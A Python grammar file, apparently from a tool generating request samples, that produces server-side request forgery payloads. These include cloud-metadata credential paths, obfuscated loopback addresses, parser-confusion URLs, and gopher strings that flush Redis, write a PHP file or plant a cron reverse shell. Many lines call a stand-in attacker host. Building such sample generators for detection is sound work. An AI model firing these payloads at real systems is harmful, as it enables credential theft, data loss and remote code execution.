"""Server-side request forgery: internal addresses, metadata services, other schemes, odd IP notations, call-backs."""

from threatclip.pairs.grammar.start import PARAM, Start

STARTS = (
    Start("attack", weight=12, places=("query", "form", "json", "param")),
    Start("header_value", weight=2, places=("header",)),
    Start("tail_path", weight=3, places=("tail",)),
    Start("json_body", weight=3, places=("jsonbody",)),
    Start("xml_body", weight=2, places=("xml",)),
    Start("absolute_target", weight=1, places=("message",)),
    Start("graph", weight=1, places=("jsonbody",)),
    Start("markup", weight=1, places=PARAM),
)

TEXT = r"""
attack := *6 «out» ¦ *4 «scheme»://«internal»«rest?» ¦ *3 «scheme»://«metadata» ¦ *3 «other» ¦ *2 «trick»
  ¦ *2 «scheme»://«odd_ip»«rest?» ¦ «internal»«rest?» ¦ «out|url» ¦ «scheme»://«internal»«rest?»#«rand»
  ¦ «scheme»://«internal»:«inport»«svc»
out := *4 «scheme»://«attacker»«rest?» ¦ *2 «scheme»://«rand20».«zone» ¦ «scheme»://«attacker»:«port»/«rand»
  ¦ //«attacker»/«rand» ¦ «attacker» ¦ «attacker»:«port» ¦ «scheme»://«attacker»/?«word»=«rand»
  ¦ «scheme»://«rand».«zone»/«word».«=jpg~png~xml~json~js~txt~html~svg~gif~wsdl~rss» ¦ «scheme»://«attacker»#«word»
  ¦ «scheme»://«attacker»/«word»? ¦ HTTP://«attacker» ¦ ftp://«attacker»/«rand» ¦ ws://«attacker»/«word»
  ¦ «scheme»://«word»:«rand»@«attacker»/ ¦ «scheme»://«hex16».«zone»/«ab» ¦ git://«attacker»/«word».git
  ¦ smb://«attacker»/«word» ¦ \\«attacker»\«word» ¦ «scheme»://«attacker»/redirect?to=«scheme»://«internal»
internal := *4 127.0.0.1 ¦ *4 localhost ¦ *2 127.0.0.1:«inport» ¦ *2 localhost:«inport» ¦ *3 «priv» ¦ *2 «priv»:«inport»
  ¦ 0.0.0.0 ¦ 0.0.0.0:«inport» ¦ [::1] ¦ [::1]:«inport» ¦ [::] ¦ 127.1 ¦ 127.0.1 ¦ 0 ¦ 0:«inport»
  ¦ 127.«oct».«oct».«oct» ¦ 172.17.0.1 ¦ host.docker.internal ¦ [::ffff:127.0.0.1] ¦ [0:0:0:0:0:ffff:127.0.0.1]
  ¦ localhost.localdomain ¦ gateway.internal ¦ «word».internal ¦ «word».local ¦ «word».svc.cluster.local:«inport»
  ¦ kubernetes.default.svc ¦ 10.0.0.1 ¦ 192.168.0.1 ¦ 192.168.1.1 ¦ intranet ¦ consul.service.consul:8500
  ¦ «coined».corp ¦ db:«inport» ¦ redis:6379 ¦ [fd00::«hex4»] ¦ [fe80::1%25eth0] ¦ 100.100.100.200
inport := 22 ¦ 25 ¦ 80 ¦ 443 ¦ 2375 ¦ 3000 ¦ 3306 ¦ 5000 ¦ 5432 ¦ 5601 ¦ 5984 ¦ *2 6379 ¦ 7001 ¦ 8000 ¦ *2 8080 ¦ 8081
  ¦ 8443 ¦ 8500 ¦ 8888 ¦ 9000 ¦ 9090 ¦ *2 9200 ¦ 10250 ¦ 11211 ¦ 15672 ¦ 27017 ¦ 50070 ¦ 4848 ¦ 1 ¦ 65535 ¦ «int» ¦ 21
  ¦ 2379 ¦ 6443
rest := *2 / ¦ /admin ¦ /server-status ¦ /«word» ¦ /«word»/«word» ¦ /«rand» ¦ /api/«word» ¦ /manager/html
  ¦ /?«ab»=«rand» ¦ /actuator/env ¦ /«word».php ¦ /.env ¦ /console ¦ /solr/admin/cores ¦ /_cat/indices ¦ /v1/agent/self
  ¦ /phpinfo.php ¦ /nginx_status ¦ /users ¦ /delete?user=«word» ¦ /admin/delete?username=«word» ¦ /containers/json
  ¦ /robots.txt ¦ /jenkins/script
svc := /_search?q=«word» ¦ /v2/keys ¦ /v1/kv/?recurse ¦ /info ¦ /containers/json?all=1 ¦ /images/json ¦ /flushall
  ¦ /_cluster/health ¦ /api/v1/namespaces/default/secrets ¦ /pods ¦ /metrics ¦ /debug/pprof ¦ /api/overview ¦ /_all_dbs
  ¦ /jmx-console ¦ /invoker/readonly ¦ /uddiexplorer/ ¦ /manager/status ¦ /script ¦ /stats ¦ /exec ¦ /run/default/«word»
metadata := *4 169.254.169.254/latest/meta-data/«aws?»
  ¦ *2 169.254.169.254/latest/«=user-data~dynamic/instance-identity/document~api/token~meta-data~» ¦ *2 169.254.169.254/
  ¦ 169.254.169.254/computeMetadata/v1/«gcp?» ¦ metadata.google.internal/computeMetadata/v1/«gcp?»
  ¦ 169.254.169.254/metadata/«=instance?api-version=2021-02-01~identity/oauth2/token?api-version=2018-02-01&resource=https://management.internal/~v1.json»
  ¦ 169.254.169.254/openstack/latest/«=meta_data.json~user_data~vendor_data.json» ¦ 169.254.169.254/hetzner/v1/metadata
  ¦ 169.254.169.254/metadata/v1/«=id~user-data~hostname~interfaces/public/0/ipv4/address»
  ¦ 100.100.100.200/latest/meta-data/«=instance-id~image-id~ram/security-credentials/~hostname»
  ¦ 169.254.170.2/v2/credentials/«uuid» ¦ 192.0.0.192/latest/meta-data/ ¦ 169.254.169.254/opc/v«=1~2»/instance/
  ¦ 169.254.169.254.«zone»/latest/meta-data/ ¦ [::ffff:a9fe:a9fe]/latest/meta-data/ ¦ 2852039166/latest/meta-data/
  ¦ 0xa9fea9fe/latest/meta-data/ ¦ 0251.0376.0251.0376/latest/meta-data/ ¦ 169.254.43518/
  ¦ instance-data/latest/meta-data/ ¦ [fd00:ec2::254]/latest/meta-data/
  ¦ 169.254.169.254:80/latest/meta-data/iam/security-credentials/«word»-role ¦ 169.254.169.254/2009-04-04/meta-data/
aws := iam/security-credentials/ ¦ iam/security-credentials/«word» ¦ ami-id ¦ hostname ¦ local-ipv4
  ¦ public-keys/0/openssh-key ¦ iam/info ¦ instance-id ¦ placement/region ¦ network/interfaces/macs/
  ¦ identity-credentials/ec2/security-credentials/ec2-instance ¦ public-hostname
gcp := instance/service-accounts/default/token ¦ project/project-id ¦ instance/?recursive=true&alt=json
  ¦ instance/attributes/kube-env ¦ project/attributes/ssh-keys ¦ instance/hostname ¦ instance/disks/
other := *4 file://«unix_file» ¦ *2 file:///«unix_path» ¦ file:///C:/«win_path» ¦ file://localhost«unix_file»
  ¦ file:«unix_file» ¦ *3 gopher://«internal»:«inport»/_«gopher|url»
  ¦ *2 gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%24«dd»%0D%0A«rand»
  ¦ gopher://«attacker»:«port»/_«rand»
  ¦ *2 dict://«internal»:«inport»/«=info~stats~config:get:*~SLAVEOF:x:1~d:word~flushall~help»
  ¦ dict://«attacker»:«port»/ ¦ ldap://«internal»:389/%0astats%0aquit ¦ ldap://«attacker»/«rand»
  ¦ tftp://«attacker»:69/«rand» ¦ sftp://«attacker»:22/ ¦ ftp://«internal»/«word» ¦ ftp://anonymous:x@«internal»:21/
  ¦ jar:«scheme»://«attacker»/«rand».jar!/«word».class ¦ netdoc://«unix_file»
  ¦ php://filter/resource=«scheme»://«internal»/ ¦ mailto:«rand»@«zone» ¦ smtp://«internal»:25
  ¦ telnet://«internal»:«inport» ¦ rtsp://«attacker»/«rand» ¦ imap://«internal» ¦ phar://«attacker»/«rand».phar
  ¦ data:text/plain;base64,«rand|b64» ¦ url:file://«unix_file» ¦ local_file:«unix_file» ¦ ssh2.exec://«internal»
  ¦ view-source:«scheme»://«internal» ¦ res://«word».dll ¦ unix:///var/run/docker.sock:/containers/json
  ¦ unix:«rand20»|«scheme»://«internal»/«word» ¦ netdoc:«unix_file» ¦ pop3://«internal»:110 ¦ rmi://«attacker»:1099/«ab»
  ¦ chrome://«word» ¦ expect://«=id~whoami» ¦ s3://«coined»/«word»
gopher := *1«cr»«nl»$8«cr»«nl»flushall«cr»«nl» ¦ GET /«word» HTTP/1.1«cr»«nl»Host: «internal»«cr»«nl»«cr»«nl»
  ¦ POST /«word» HTTP/1.1«cr»«nl»Content-Length: «dd»«cr»«nl»«cr»«nl»«word»=«rand»
  ¦ EHLO «word»«cr»«nl»MAIL FROM:<«word»@«zone»>«cr»«nl»
  ¦ config set dir «web_root»«cr»«nl»config set dbfilename «rand».php«cr»«nl»
  ¦ «x01»«x01»«nul»«x01»«nul»«x08»«nul»«nul»SCRIPT_FILENAME«web_root»/index.php ¦ slaveof «attacker» «port»«cr»«nl»
  ¦ set «ab» "«nl»* * * * * «unix_reverse»«nl»"«cr»«nl»save«cr»«nl» ¦ stats«cr»«nl»quit«cr»«nl» ¦ select * from «word»;
odd_ip := 2130706433 ¦ 0x7f000001 ¦ 0x7f.0x0.0x0.0x1 ¦ 0177.0.0.1 ¦ 017700000001 ¦ 0177.0.0.01 ¦ 0x7f.1 ¦ 127.000.000.1
  ¦ 127.0.0.1.nip.test ¦ 127-0-0-1.sslip.test ¦ «=7f000001~a9fea9fe~c0a80001~0a000001».«hex8».rbndr.test
  ¦ localtest.test ¦ spoofed.«zone» ¦ 127。0。0。1 ¦ ①②⑦.⓪.⓪.① ¦ ⓛⓞⓒⓐⓛⓗⓞⓢⓣ ¦ 3232235521 ¦ 3232235777 ¦ 0xc0a80001
  ¦ 167772161 ¦ 00000177.0.0.1 ¦ [0:0:0:0:0:0:0:1] ¦ [0000::1]:«inport» ¦ [::ffff:7f00:1] ¦ [::127.0.0.1]
  ¦ 0x«=7f000001~c0a80101~a9fea9fe» ¦ 127.0.0.1%2523 ¦ %6c%6f%63%61%6c%68%6f%73%74 ¦ %31%32%37%2e%30%2e%30%2e%31
  ¦ LOCALHOST ¦ LoCaLhOsT ¦ localhost. ¦ 127.0.0.1. ¦ 192.168.257 ¦ 10.1 ¦ 0o177.0.0.1 ¦ 1.0.0.127.in-addr.test
  ¦ a.«priv».1time.«priv».1time.repeat.«hex8».rebind.test
trick := *2 «scheme»://«site»@«internal»«rest?» ¦ «scheme»://«internal»#@«site»/ ¦ «scheme»://«internal»%23@«site»
  ¦ «scheme»://«site»#@«internal»/ ¦ «scheme»://«internal»\@«site»/ ¦ «scheme»://«site»\@«internal»
  ¦ «scheme»://«internal»%00.«site» ¦ «scheme»://«internal»?.«site» ¦ «scheme»://«site».«zone»/
  ¦ «scheme»://«internal»:80%40«site»/ ¦ «scheme»:«internal» ¦ «scheme»:/«internal» ¦ «scheme»:\\«internal»
  ¦ «scheme»:///«internal» ¦ «scheme»://«word»:«rand»@«internal» ¦ «scheme»://«internal»:«inport»:80/
  ¦ «scheme»://«internal»%0d%0aX-«coined|cap»:%20«rand» ¦ «scheme»://«internal»/%0D%0A%0D%0A«rand»
  ¦ «scheme»://«attacker»/302?url=«scheme»://«internal» ¦ «scheme»://«internal»%09 ¦ @«internal»«rest?» ¦ @«attacker»/
  ¦ .«zone» ¦ :«port»/@«attacker» ¦ «scheme»://«internal» &@«site»# @«site»/ ¦ «scheme»://«site»%20@«internal»
  ¦ «scheme»://{«internal»} ¦ url:«scheme»://«internal» ¦ 0://«attacker»:80;http://«site»:80/
  ¦ «scheme»://«internal»;«site» ¦ «scheme»://«site»?@«internal»/ ¦ «scheme»://«site»@«attacker»:«port»/«word»
header_value := «attacker» ¦ «scheme»://«attacker»/«rand» ¦ «internal» ¦ «priv»:«inport» ¦ 169.254.169.254
  ¦ «rand20».«zone» ¦ «attack» ¦ @«attacker» ¦ for=«attacker»;host=«internal»;proto=http
tail_path := *2 /proxy/«scheme»://«internal»«rest?»
  ¦ /«=proxy~fetch~load~image~render~preview~thumb~resize~cors~relay~forward~gateway~browse~download~out~link~get»/«out»
  ¦ /«=proxy~fetch~image~render~preview»?«=url~u~uri~src~target~q»=«attack»
  ¦ /«=proxy~plugins~api/proxy~remote~tunnel»/«internal»«rest?» ¦ /«word»/«out|url»
  ¦ /«word»/«word»?«=url~uri~link~src~dest~redirect~path~target~host~feed~callback~webhook~img~image~page~site~domain~remote~endpoint~server~api~service~wsdl~xmlurl~image_url~imgurl~fileUrl~proxy~from~data_source»=«attack»
  ¦ /plugins/servlet/oauth/users/icon-uri?consumerUri=«out» ¦ /_next/image?url=«attack|url»&w=«int»&q=75
  ¦ /uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname=«ab»&operator=«attack|url»
  ¦ /xmlpserver/«word»?param=«attack» ¦ /«attacker»/«rand»
json_body := {"«urlkey»":"«attack|js»"} ¦ *2 {"«urlkey»":"«attack|js»","«name»":"«rand»"}
  ¦ {"«name»":{"«urlkey»":"«attack|js»","method":"«=GET~POST»"}} ¦ {"«name»":["«attack|js»"]}
  ¦ {"webhook":{"url":"«attack|js»","events":["«word»"]}}
  ¦ {"type":"«word»","«urlkey»":"«attack|js»","access":"proxy","isDefault":false}
  ¦ {"repository":{"url":"«attack|js»","branch":"main"}} ¦ {"html":"<iframe src=\"«attack|html|js»\"></iframe>"}
  ¦ {"id":«int»,"config":{"«urlkey»":"«attack|js»","timeout":«int»}}
  ¦ {"jsonrpc":"2.0","method":"«word».«word»","params":["«attack|js»"],"id":1}
  ¦ @2022 {"predicates":[{"name":"Path","args":{"_genkey_0":"/«rand»/**"}}],"uri":"«attack|js»","order":0}
  ¦ {"url":"«attack|js»","headers":{"Metadata-Flavor":"Google"}}
  ¦ {"connection":{"host":"«internal»","port":«inport»,"user":"«word»"}}
urlkey := *4 url ¦ *2 uri ¦ link ¦ target ¦ endpoint ¦ host ¦ webhook_url ¦ callback ¦ callbackUrl ¦ imageUrl
  ¦ image_url ¦ src ¦ source ¦ feed ¦ avatar ¦ remote ¦ server ¦ baseUrl ¦ base_url ¦ proxy ¦ import_url ¦ import_uri
  ¦ download_url ¦ destination ¦ address ¦ icon ¦ site ¦ domain ¦ location ¦ downloadUrl ¦ api_url ¦ issuer ¦ wsdl ¦ jku
  ¦ redirect_uri ¦ logo_uri ¦ upstream ¦ fileUrl
xml_body := <?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>«attack|html»</string></value></param><param><value><string>http://«site»/?p=«small»</string></value></param></params></methodCall>
  ¦ <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:asy="http://www.w3.org/2005/08/addressing"><soapenv:Header><asy:Action>«word»</asy:Action><asy:ReplyTo><asy:Address>«attack|html»</asy:Address></asy:ReplyTo></soapenv:Header><soapenv:Body/></soapenv:Envelope>
  ¦ <?xml version="1.0"?><«$r:word»><«$u:urlkey»>«attack|html»</«$u»></«$r»>
  ¦ <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="«attack|html»" height="«dd»" width="«dd»"/></svg>
  ¦ <html><body><iframe src="«attack|html»" width="«int»" height="«int»"></iframe></body></html>
  ¦ <samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" AssertionConsumerServiceURL="«attack|html»"/>
  ¦ <ds:RetrievalMethod xmlns:ds="http://www.w3.org/2000/09/xmldsig#" URI="«attack|html»"/>
  ¦ <opml version="1.0"><body><outline type="rss" xmlUrl="«attack|html»"/></body></opml>
  ¦ <Autodiscover><Request><EMailAddress>«word»@«attacker»</EMailAddress><AcceptableResponseSchema>«attack|html»</AcceptableResponseSchema></Request></Autodiscover>
absolute_target := GET «scheme»://«internal»«rest?»«nl»«nl» ¦ GET «scheme»://169.254.169.254/latest/meta-data/«nl»«nl»
  ¦ CONNECT «internal»:«inport»«nl»«nl» ¦ GET /«word»?unix:«rand20»|«scheme»://«attacker»/«nl»«nl»
  ¦ GET //«attacker»/«rand»«nl»«nl» ¦ GET @«internal»«rest?»«nl»«nl»
  ¦ GET /«nl»X-Forwarded-Host: «attacker»«nl»X-Original-Host: «internal»«nl»«nl» ¦ GET :@«attacker»/«word»«nl»«nl»
graph := {"query":"{ «word»(«urlkey»: \"«attack|js|js»\") { «word» } }"}
  ¦ {"query":"mutation($u:String!){ «=importUrl~fetch~createWebhook~upload~systemDiagnostics»(url:$u){ id } }","variables":{"u":"«attack|js»"}}
  ¦ {"operationName":"Import«coined|cap»","variables":{"host":"«internal»","port":"«inport»","path":"/","scheme":"http"},"query":"mutation Import«coined|cap»($host:String!){ import(host:$host){ result } }"}
markup := <img src="«attack»"> ¦ <iframe src="«attack»"></iframe>
  ¦ <script>document.location="«scheme»://«internal»/"</script> ¦ <link rel=attachment href="«other»">
  ¦ ![«word»](«attack») ¦ <object data="«other»"></object>
  ¦ <meta http-equiv="refresh" content="0;url=«scheme»://«metadata»"> ¦ <embed src="«other»">
  ¦ <annotation file="«unix_file»" content="«unix_file»"/>
  ¦ #EXTM3U«nl»#EXTINF:10.0,«nl»concat:«attack»|«other»«nl»#EXT-X-ENDLIST ¦ <style>@import url('«attack»');</style>
  ¦ {"$ref":"«attack»"}
"""  # noqa: E501
